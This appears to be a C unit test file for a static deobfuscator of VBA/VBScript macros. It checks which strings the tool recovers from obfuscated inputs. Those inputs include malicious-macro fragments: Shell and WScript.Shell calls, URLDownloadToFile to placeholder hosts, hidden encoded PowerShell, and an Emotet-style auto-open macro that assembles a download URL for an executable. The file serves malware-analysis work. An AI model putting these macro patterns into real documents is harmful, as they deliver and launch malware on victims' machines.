/*
 * test_deob_vba.c - the VBA/VBScript evaluator (src/deob/vba.c): what
 * each construct yields (the exact strings, in order, with their `how`),
 * what stays unknown (variables assigned twice, unknown functions,
 * inputs), the document strings of `extra`, an Emotet-style macro, and
 * the limits: steps, bytes, depth, 10 MB of garbage, of "Chr(" and of
 * "((((", and a For loop of 10^9 iterations, each well under a second.
 */
#include "test_helpers.h"

#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include "deob/deob.h"

/* "how: value" lines of what deob_vba() recovers from src, joined by '\n';
 * *limit gets r.limit. */
static char *
run_lim(const char *src, size_t len, GHashTable *extra, const struct deob_limits *lim,
    const char **limit)
{
	struct deob_result r;
	deob_result_init(&r);
	deob_vba(src, len, extra, lim, &r);
	GString *g = g_string_new("");
	for (guint i = 0; i < r.strs->len; i++) {
		const struct deob_str *s = g_ptr_array_index(r.strs, i);
		assert_true(g_utf8_validate(s->value, (gssize)s->len, NULL));
		assert_true(s->len <= DEOB_STR_MAX);
		g_string_append_printf(g, "%s%s: %s", i > 0 ? "\n" : "", s->how, s->value);
	}
	if (limit != NULL)
		*limit = r.limit;
	deob_result_clear(&r);
	return g_string_free(g, FALSE);
}

/* src must yield exactly want (lines "how: value"), with no limit hit. */
static void
expect_x(const char *src, GHashTable *extra, const char *want)
{
	const char *limit = "unset";
	char *got = run_lim(src, strlen(src), extra, NULL, &limit);
	if (strcmp(got, want) != 0)
		fail_msg("%s\n--- got:\n%s\n--- want:\n%s", src, got, want);
	assert_null(limit);
	g_free(got);
}

static void
expect(const char *src, const char *want)
{
	expect_x(src, NULL, want);
}

#define F "vba folding: "
#define L "vba literal: "
#define D "vba document string: "

static void
test_literals(void **state)
{
	(void)state;
	/* plain literals: only those with :// */
	expect("x = \"cmd.exe /c calc\"\ny = \"http://a.example/x\"\n",
	    L "http://a.example/x");
	/* "" escapes, a folded literal is recorded once */
	expect("x = \"say \"\"hi\"\" to \" & \"me\"", F "say \"hi\" to me");
	/* short results (3 characters or fewer) are not recorded */
	expect("x = \"a\" & \"b\" & \"c\"", "");
	expect("", "");
	expect("\"unterminated http://x", L "unterminated http://x");
}

static void
test_tokens(void **state)
{
	(void)state;
	/* line continuation, ':' separators, comments, Rem, $ suffixes */
	expect("x = \"ab\" & _\n    \"cd\" ' comment \"ef\" & \"gh\"\n"
	    "Rem y = \"no\" & \"thing\"\ny = Chr$(65) & \"BCD\": z = LCase(\"XYZW\")",
	    F "abcd\n" F "ABCD\n" F "xyzw");
	/* numbers: decimal, &H, &O, arithmetic, Mod, unary minus, precedence */
	expect("x = Chr(&H68) & Chr(&O164) & Chr(119 - 3) & Chr(7 * 16) & Chr(1090 Mod 256 + 0)",
	    F "httpB");
	expect("x = Chr(-(-104)) & Chr(2 + 3 * 38) & Chr((2 + 3) * 23 + 1) & Chr(2 ^ 6 + 48)",
	    F "http");
	/* + adds numbers and concatenates strings; & converts numbers */
	expect("x = \"ab\" + \"cd\"\ny = \"n=\" & 40 + 2\nz = Chr(100 + 4) + \"ttp\"",
	    F "abcd\n" F "n=42\n" F "http");
	/* Xor on integers, integer division */
	expect("x = Chr(45 Xor 69) & Chr(233 \\ 2) & Chr(116) & Chr(112)", F "http");
}

static void
test_functions(void **state)
{
	(void)state;
	expect("a = StrReverse(\"exe.x/moc.live//:ptth\")", F "http://evil.com/x.exe");
	expect("a = Replace(\"hXXp://bad.example\", \"XX\", \"tt\")",
	    L "hXXp://bad.example\n" F "http://bad.example");
	expect("a = Mid(\"zzhttp\", 3)\nb = Mid$(\"zzpowershellzz\", 3, 10)\n"
	    "c = Left(\"cmd.exe garbage\", 7) & Right(\"xx /c\", 3)", F "http\n" F "powershell\n"
	    F "cmd.exe /c");
	expect("a = UCase(\"wscript\") & LCase(\".SHELL\")\nb = \"[\" & Trim(\"  a b  \") & \"]\" & "
	    "LTrim(\" c \") & RTrim(\" d \") & \"]\"", F "WSCRIPT.shell\n" F "[a b]c  d]");
	expect("a = Chr(Len(\"abcdefghijklmnopqrstuvwxyz\") + 78) & \"ttp\"", F "http");
	expect("a = Split(\"x,cmd,/c,calc\", \",\")(1) & \" \" & Split(\"x,cmd,/c,calc\", \",\")(2)",
	    F "cmd /c");
	expect("a = Join(Array(\"cmd\", \"/c\", \"calc\"), \" \")\nb = Join(Split(\"a-b-c-d\", \"-\"), \"\")",
	    F "cmd /c calc\n" F "abcd");
	expect("a = Hex(255) & Hex(16) & \"zz\"\nb = Chr(Val(\"104abc\")) & Chr(Val(\"&H74\")) & \"tp\"\n"
	    "c = CStr(12) & CStr(34)\nd = Chr(CInt(\"72\")) & Chr(CLng(\"84\")) & \"TP\"",
	    F "FF10zz\n" F "http\n" F "1234\n" F "HTTP");
	expect("a = \"[\" & Space(3) & String(3, \"x\") & String(2, 65) & \"]\"", F "[   xxxAA]");
	expect("a = StrConv(\"abcd\", vbUnicode) & StrConv(\"efgh\", vbFromUnicode)", F "abcdefgh");
	expect("a = ChrW(&H3042) & ChrW(26085) & Chr(233) & ChrB(65) & Chr(128)",
	    F "あ日éA€");
	expect("a = Chr(Asc(\"h\")) & Chr(AscW(\"t\")) & \"tp\"", F "http");
	expect("a = \"x\" & vbCrLf & \"y\" & vbTab & \"z\"", F "x\r\ny\tz");
	expect("a = Chr(UBound(Array(1, 2, 3)) + 102) & \"ttp\"", F "http");
}

static void
test_variables(void **state)
{
	(void)state;
	/* assigned once: a constant, also before its assignment (in text) */
	expect("Sub a()\n Shell p & \"shell -nop\"\nEnd Sub\nSub b()\n p = \"power\"\nEnd Sub",
	    F "powershell -nop");
	/* Const, Dim, Set; several constants on one line */
	expect("Private Const A = \"cm\", B = \"d.e\"\nDim c As String\nc = A & B & \"xe\"\n"
	    "Set o = CreateObject(\"WScript.Shell\")\no.Run c & \" /c calc\", 0",
	    F "cmd.exe\n" F "cmd.exe /c calc");
	/* assigned twice: unknown, but each right-hand side is recorded */
	expect("s = \"ab\" & \"cd\"\ns = \"ef\" & \"gh\"\nShell s & \"/x\"", F "abcd\n" F "efgh");
	/* assigned twice outside a loop even as an accumulation: unknown */
	expect("s = \"http\"\ns = s & \"://x\"\nShell s", L "://x");
	/* a constant built from unknowns is unknown; the known part is kept */
	expect("u = \"http://\" & \"a.example/\" & Environ(\"USER\")\nShell u",
	    L "http://\n" F "http://a.example/");
	/* an unknown function: its arguments are recorded */
	expect("x = Foo(\"cm\" & \"d.exe\", Chr(47) & \"c\") & \"zzzz\"", F "cmd.exe");
	/* an input: never known */
	expect("x = InputBox(\"a\")\nShell \"cmd /c \" & x", "");
	/* cycles are unknown */
	expect("a = b & \"xx\"\nb = a & \"yy\"\nShell a", "");
	/* a variable assigned under If inside a loop is unknown */
	expect("For i = 1 To 3\nIf i = 2 Then s = s & \"x\"\nNext\nShell s & \"yyyy\"", "");
}

static void
test_calls(void **state)
{
	(void)state;
	/* Shell, .Run, .Exec, URLDownloadToFile, .Open, CallByName, Call */
	expect("Shell (\"cmd\" & \".exe\"), 1\nShell (\"po\") & \"wershell\"\n"
	    "CreateObject(\"WScript.Shell\").Exec(\"cmd\" & \" /c x\")\n"
	    "URLDownloadToFile 0, \"http\" & \"://h.example/f\", \"C:\\t\" & \"\\f.exe\", 0, 0\n"
	    "x.Open \"GET\", \"http\" & \"://h.example/g\", False\n"
	    "CallByName o, \"R\" & \"un\", VbMethod, \"calc\" & \".exe\"\n"
	    "Call Foo(\"ab\" & \"cd\")",
	    L "://h.example/f\n" L "://h.example/g\n" F "cmd.exe\n" F "powershell\n" F "cmd /c x\n" F "http://h.example/f\n"
	    F "C:\\t\\f.exe\n" F "http://h.example/g\n" F "calc.exe\n" F "abcd");
	/* conditions and Select Case are evaluated for recording only */
	expect("If x = \"ab\" & \"cd\" Then\nShell \"ef\" & \"gh\"\nElse: y = 1\nEnd If",
	    F "abcd\n" F "efgh");
	/* a single-line If: the statement after Then is run */
	expect("If a Then Shell \"cm\" & \"d.exe\" Else Shell \"no\" & \"tepad\"",
	    F "cmd.exe\n" F "notepad");
	/* With: member calls */
	expect("With CreateObject(\"WScript.Shell\")\n.Run \"cal\" & \"c.exe\"\nEnd With",
	    F "calc.exe");
}

static void
test_loops_arrays(void **state)
{
	(void)state;
	/* decoding an Array of offsets; recorded once at the loop's end */
	expect("k = Array(107, 119, 119, 115, 61, 50, 50)\nFor i = 0 To UBound(k)\n"
	    "  s = s & Chr(k(i) - 3)\nNext i\nShell s & \"x.example\"",
	    F "http://\n" F "http://x.example");
	/* Step, a loop temporary, Dim bounds and element assignments */
	expect("Dim a(3)\na(0) = \"p\": a(1) = \"t\": a(2) = \"t\": a(3) = \"h\"\n"
	    "For j = 3 To 0 Step -1\n  c = a(j)\n  u = u & c\nNext\nx = u & \"s://\"",
	    L "s://\n" F "http\n" F "https://");
	/* nested loops, Next j, i */
	expect("For i = 1 To 2\nFor j = 1 To 3\nt = t & Chr(96 + i * j)\nNext j, i\nShell t",
	    F "abcbdf");
	/* a loop with unknown bounds: what it assigns is unknown */
	expect("For i = 1 To n\ns = s & \"ab\"\nNext\nShell s & \"cdef\"", "");
	/* zero iterations */
	expect("s = \"abcd\"\nFor i = 5 To 1\ns = s & \"x\"\nNext\nShell s & \"e\"",
	    F "abcde");
	/* elements filled in a loop, then joined */
	expect("Dim b(2)\nFor i = 0 To 2\nb(i) = Chr(120 + i)\nNext\nShell Join(b, \"-\")",
	    F "x-y-z");
	/* For Each and Do loops are not run */
	expect("Do While x\ns = s & \"ab\"\nLoop\nShell s & \"cdef\"", "");
}

static void
test_user_functions(void **state)
{
	(void)state;
	expect("Function f(s): f = StrReverse(s): End Function\nx = f(\"dmc\") & \".exe\"",
	    F "cmd.exe");
	expect("Private Function g(ByVal a As String, ByVal n As Integer) As String\n"
	    "  Dim t\n  g = Mid(a, n) & Chr(n + 97)\nEnd Function\n"
	    "Shell g(\"zzzcmd.ex\", 4)", F "cmd.exe");
	/* a function with more than one statement is not called */
	expect("Function h(s)\nMsgBox s\nh = s & \"x\"\nEnd Function\nShell h(\"ab\" & \"cd\")",
	    F "abcd");
	/* the parameter does not hide a variable of the same name elsewhere */
	expect("Function f(s): f = LCase(s): End Function\ns = \"AB\" & \"CD\"\nShell f(s) & s",
	    F "ABCD\n" F "abcdABCD");
}

/* extra with the document strings name, value, ... (NULL-terminated). */
static GHashTable *
extra_of(const char *first, ...)
{
	GHashTable *h = g_hash_table_new_full(g_str_hash, g_str_equal, g_free, g_free);
	va_list ap;
	va_start(ap, first);
	for (const char *k = first; k != NULL; k = va_arg(ap, const char *))
		g_hash_table_insert(h, g_strdup(k), g_strdup(va_arg(ap, const char *)));
	va_end(ap);
	return h;
}

static GHashTable *
extra_new(void)
{
	return extra_of("userform1.label1.caption", "powershell -enc AAAA",
	    "userform1.textbox1.text", "http://doc.example/a",
	    "activedocument.variables(\"x\").value", "cmd /c calc",
	    "activedocument.builtindocumentproperties(\"comments\")", "moc.elpmaxe//:ptth",
	    "key", "abc", NULL);
}

static void
test_extra(void **state)
{
	(void)state;
	GHashTable *h = extra_new();
	expect_x("Shell UserForm1.Label1.Caption", h, D "powershell -enc AAAA");
	expect_x("u = userform1.TEXTBOX1.Text & \"/b\"", h, D "http://doc.example/a/b");
	expect_x("v = ActiveDocument.Variables(\"X\").Value\n"
	    "w = ActiveDocument.Variables(\"x\")", h, D "cmd /c calc");
	expect_x("c = StrReverse(ActiveDocument.BuiltInDocumentProperties(\"Comments\"))", h,
	    D "http://example.com");
	expect_x("y = Key & \"defg\"", h, D "abcdefg");
	/* no extra: unknown */
	expect("Shell UserForm1.Label1.Caption & \"abcd\"", "");
	/* a name that is assigned is not looked up */
	expect_x("Key = \"wxyz\" & \"1\"\ny = Key & \"2\"", h, F "wxyz1\n" F "wxyz12");
	g_hash_table_destroy(h);
}

static void
test_emotet(void **state)
{
	(void)state;
	GHashTable *h = extra_of("userform1.label1.caption", "winmgmts:Win32_Process", NULL);
	const char *src =
	    "Attribute VB_Name = \"ThisDocument\"\r\n"
	    "Private Function rv(ByVal z As String) As String\r\n"
	    "    rv = StrReverse(z)\r\n"
	    "End Function\r\n"
	    "Sub Document_Open()\r\n"
	    "    On Error Resume Next\r\n"
	    "    Dim x As String, u As String, i As Integer\r\n"
	    "    x = \"JABXAGMAPQBu\" + \"AGUAdwAtAG8A\"\r\n"
	    "    Dim k\r\n"
	    "    k = Array(107, 119, 119, 115, 118, 61, 50, 50)\r\n"
	    "    For i = LBound(k) To UBound(k)\r\n"
	    "        u = u & Chr(k(i) - 3)\r\n"
	    "    Next i\r\n"
	    "    h = Chr(&H63) & Chr(50 + 50) & Chr(3 * 37 + 5 - 5) & Chr(46) & rv(\"elpmaxe\") _\r\n"
	    "        & \".\" & Join(Split(\"c|o|m\", \"|\"), \"\")\r\n"
	    "    p = rv(\"exe.b/kcap/\")\r\n"
	    "    Set w = GetObject(UserForm1.Label1.Caption)\r\n"
	    "    Shell \"pow\" & \"ershell -w hidden -enc \" & x, 0\r\n"
	    "    w.Create \"cmd /c \" & u & h & p\r\n"
	    "End Sub\r\n";
	expect_x(src, h,
	    F "JABXAGMAPQBuAGUAdwAtAG8A\n"
	    F "https://\n"
	    F "cdo.example.com\n"
	    F "/pack/b.exe\n"
	    D "winmgmts:Win32_Process\n"
	    F "powershell -w hidden -enc JABXAGMAPQBuAGUAdwAtAG8A\n"
	    F "cmd /c https://cdo.example.com/pack/b.exe");
	g_hash_table_destroy(h);
}

static void
test_limits(void **state)
{
	(void)state;
	const char *limit;
	/* steps: a small budget stops a long loop */
	struct deob_limits lim = { .steps = 5000 };
	const char *src = "For i = 1 To 1000000\ns = s & \"x\"\nNext\nShell s & \"abcd\"";
	char *got = run_lim(src, strlen(src), NULL, &lim, &limit);
	assert_string_equal(limit, "steps");
	g_free(got);
	/* bytes: the first string fits, the second does not */
	lim = (struct deob_limits){ .bytes = 12 };
	src = "a = \"abcd\" & \"efgh\"\nb = \"ijkl\" & \"mnop\"\nc = \"q\" & \"rstu\"";
	got = run_lim(src, strlen(src), NULL, &lim, &limit);
	assert_string_equal(got, F "abcdefgh");
	assert_string_equal(limit, "bytes");
	g_free(got);
	/* depth: a too deep expression is unknown, the next statement runs */
	GString *g = g_string_new("x = ");
	for (int i = 0; i < 100; i++)
		g_string_append(g, "(");
	g_string_append(g, "\"ab\" & \"cd\"");
	for (int i = 0; i < 100; i++)
		g_string_append(g, ")");
	g_string_append(g, "\ny = \"ef\" & \"gh\"\nz = Chr(Chr(Chr(Chr(1))))");
	got = run_lim(g->str, g->len, NULL, NULL, &limit);
	assert_string_equal(got, F "efgh");
	assert_string_equal(limit, "depth");
	g_free(got);
	g_string_free(g, TRUE);
	/* strings built in loops are cut at DEOB_STR_MAX */
	lim = (struct deob_limits){ .steps = 100000000 };
	src = "For i = 1 To 100000\ns = s & \"abcdefghij\"\nNext\n";
	got = run_lim(src, strlen(src), NULL, &lim, &limit);
	assert_null(limit);
	assert_int_equal(strlen(got), strlen(F) + DEOB_STR_MAX);
	g_free(got);
	src = "x = String(100000, \"a\") & Space(100000)";
	got = run_lim(src, strlen(src), NULL, NULL, &limit);
	assert_int_equal(strlen(got), strlen(F) + DEOB_STR_MAX);
	g_free(got);
	/* the deadline */
	lim = (struct deob_limits){ .steps = UINT64_MAX / 2, .deadline = g_get_monotonic_time() };
	src = "For i = 1 To 1000000000\nNext";
	got = run_lim(src, strlen(src), NULL, &lim, &limit);
	assert_string_equal(limit, "time");
	g_free(got);
}

/* src (n bytes) must finish within a second. */
static void
timed(const char *what, const char *src, size_t n, const struct deob_limits *lim)
{
	const char *limit;
	int64_t t0 = g_get_monotonic_time();
	char *got = run_lim(src, n, NULL, lim, &limit);
	int64_t us = g_get_monotonic_time() - t0;
	if (us > 1000000)
		fail_msg("%s: %lld us", what, (long long)us);
	print_message("%s: %lld ms, limit %s\n", what, (long long)(us / 1000),
	    limit != NULL ? limit : "none");
	g_free(got);
}

static void
test_hostile(void **state)
{
	(void)state;
	size_t n = 10u << 20;
	char *buf = g_malloc(n);
	GRand *rnd = g_rand_new_with_seed(18);
	for (size_t i = 0; i < n; i++)
		buf[i] = (char)g_rand_int_range(rnd, 0, 256);
	timed("10 MB of random bytes", buf, n, NULL);
	/* random VBA-ish tokens */
	static const char *const words[] = { "Chr(", "(", ")", "\"a", "\"", " & ", "x", " = ",
		"\n", ":", "For i = 1 To 9\n", "Next\n", "If ", "Then ", "Else ", "End If\n",
		"Function f(s)\n", "End Function\n", "f(", ",", "Array(", "s = s & ", " _\n",
		"'", "&H", "1", "Dim a(5)\n", "a(1) = ", "Split(", "UserForm1.", ".", "Replace(" };
	size_t k = 0;
	while (k + 32 < n) {
		const char *w = words[g_rand_int_range(rnd, 0, G_N_ELEMENTS(words))];
		size_t l = strlen(w);
		memcpy(buf + k, w, l);
		k += l;
	}
	timed("10 MB of random tokens", buf, k, NULL);
	for (size_t i = 0; i + 4 <= n; i += 4)
		memcpy(buf + i, "Chr(", 4);
	timed("10 MB of Chr(", buf, n, NULL);
	memset(buf, '(', n);
	timed("10 MB of ((((", buf, n, NULL);
	struct deob_limits big = { .steps = 50000000 };
	timed("10 MB of (((( with 5e7 steps", buf, n, &big);
	const char *loop = "For i = 1 To 1000000000\ns = s & Chr(65 + i Mod 26)\nNext\nShell s";
	timed("10^9 iterations", loop, strlen(loop), NULL);
	/* a statement of 10 MB: x = "a" & "a" & ... */
	memcpy(buf, "x = ", 4);
	for (size_t i = 4; i + 6 <= n; i += 6)
		memcpy(buf + i, "\"a\" & ", 6);
	timed("10 MB of concatenation", buf, n - 8, &big);
	g_rand_free(rnd);
	g_free(buf);
}

static void
test_truncated(void **state)
{
	(void)state;
	const char *src = "x = Chr(104) & \"ttp://a\" & Mid(\"abc\", 2) & Split(\"a,b\", \",\")(1)";
	/* every prefix: no crash, valid results */
	for (size_t i = 0; i <= strlen(src); i++) {
		char *got = run_lim(src, i, NULL, NULL, NULL);
		g_free(got);
	}
	/* not NUL-terminated: only text[0..len) is read */
	char *copy = g_malloc(11);
	memcpy(copy, "a = \"b\" & \"", 11);
	char *got = run_lim(copy, 11, NULL, NULL, NULL);
	g_free(got);
	g_free(copy);
	/* invalid UTF-8 in literals is made valid */
	expect("a = \"\xff\xfe\" & \"abcd\"", F "\xef\xbf\xbd\xef\xbf\xbd" "abcd");
	/* a NUL byte in a literal is replaced, one made by Chr(0) ends the value */
	src = "a = \"ab\0cd\" & \"efgh\"\nb = \"ijkl\" & Chr(0) & \"mn\"";
	got = run_lim(src, 43, NULL, NULL, NULL);
	assert_true(g_str_has_prefix(got, F "ab\xef\xbf\xbd" "cdefgh\n" F "ijkl"));
	g_free(got);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_literals),
		cmocka_unit_test(test_tokens),
		cmocka_unit_test(test_functions),
		cmocka_unit_test(test_variables),
		cmocka_unit_test(test_calls),
		cmocka_unit_test(test_loops_arrays),
		cmocka_unit_test(test_user_functions),
		cmocka_unit_test(test_extra),
		cmocka_unit_test(test_emotet),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_truncated),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
